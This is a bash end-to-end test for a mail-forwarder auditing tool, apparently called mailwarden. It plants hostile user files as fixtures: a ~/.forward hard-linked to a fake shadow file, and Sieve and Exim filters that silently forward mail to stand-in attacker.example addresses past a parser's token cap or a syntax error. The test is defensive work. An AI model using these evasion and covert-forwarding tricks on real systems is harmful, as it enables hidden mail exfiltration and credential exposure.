#!/bin/bash
# End-to-end: `mailwarden forwarders --root` on hostile user files (issue
# 19, items 6 and 12):
#  - a ~/.forward that is a hard link to a root-only file (protected_hardlinks
#    off, or an image): reported, never read or shown;
#  - a valid Sieve script of more than FWD_MAX_TOKENS tokens and an Exim
#    filter with a syntax error, each with an external forward after the
#    point where the parser stops: still found, and the file reported as
#    not fully audited (medium).
set -euo pipefail
: "${MW_BIN:?}" "${MW_TOP:?}"
[ "$(id -u)" = 0 ] || { echo "needs root (chown, hard links to root files)"; exit 77; }
work=$(mktemp -d /tmp/mw-e2e-fwddur-XXXXXX)
trap 'rm -rf "$work"' EXIT
fail() { echo "FAIL: $*"; exit 1; }
ok() { echo "ok: $*"; }
jget() { python3 -c "import json,sys; d=json.load(open(sys.argv[1])); print(eval(sys.argv[2]))" "$@"; }

root=$work/root
mkdir -p "$root/etc" "$root/home/hl" "$root/home/sv" "$root/home/ex"
cat >"$root/etc/passwd" <<'PW'
root:x:0:0:root:/root:/bin/bash
hl:x:1001:1001::/home/hl:/bin/bash
sv:x:1002:1002::/home/sv:/bin/bash
ex:x:1003:1003::/home/ex:/bin/bash
PW
printf 'root:$6$SECRETHASHxyz:19000:0:99999:7:::\nleak@shadow.example\n' >"$root/etc/shadow"
chmod 0600 "$root/etc/shadow"
ln "$root/etc/shadow" "$root/home/hl/.forward"
# a valid script, 200k+ tokens of string list before the redirect
python3 - "$root/home/sv/.dovecot.sieve" <<'PY'
import sys
n = 110000
with open(sys.argv[1], "w") as f:
    f.write('require ["copy"];\n')
    f.write('if header :contains "subject" [' + ",".join(['"a%d"' % (i % 10) for i in range(n)]) + '] {\n  keep;\n}\n')
    f.write('redirect :copy "collector@attacker.example";\n')
PY
printf '# Exim filter\nif $h_subject: contains "x" then\n  save /dev/null ((\nendif\nunseen deliver exfil@attacker.example\n' >"$root/home/ex/.forward"
chown -R 1002:1002 "$root/home/sv"
chown -R 1003:1003 "$root/home/ex"
chown 1001:1001 "$root/home/hl"

set +e
"$MW_BIN" forwarders --root "$root" --no-progress --format json >"$work/o.json" 2>"$work/o.err"; rc=$?
"$MW_BIN" forwarders --root "$root" --no-progress --list >"$work/o.txt" 2>&1
set -e
[ $rc -eq 1 ] || fail "exit $rc: $(cat "$work/o.err")"
! grep -q "SECRETHASH\|leak@shadow" "$work/o.json" "$work/o.txt" "$work/o.err" ||
	fail "content of the root-only file reached the report"
[ "$(jget "$work/o.json" '[f["severity"] for f in d["findings"] if f["rule_id"] == "forwarders.unreadable-by-owner" and f["evidence"]["path"].endswith("/home/hl/.forward")]')" = "['high']" ] ||
	fail "hard link to a root-only file not reported: $(jget "$work/o.json" '[(f["rule_id"], f["evidence"]["path"]) for f in d["findings"]]')"
ok "a ~/.forward hard-linked to a root-only file: reported (high), nothing of it shown"

dests=$(jget "$work/o.json" 'sorted(f["details"]["destination"] for f in d["findings"] if f.get("details") and (f["details"].get("destination") or "").endswith("attacker.example"))')
[ "$dests" = "['collector@attacker.example', 'exfil@attacker.example']" ] ||
	fail "forwards after the parse stopped lost: $dests"
[ "$(jget "$work/o.json" 'sorted(f["evidence"]["path"].split("/home/")[1] for f in d["findings"] if f["rule_id"] == "forwarders.not-fully-audited" and f["severity"] == "medium")')" = "['ex/.forward', 'sv/.dovecot.sieve']" ] ||
	fail "files not reported as not fully audited"
ok "Sieve past the token cap and a broken Exim filter: the forwards after the stop are found, files reported (medium)"
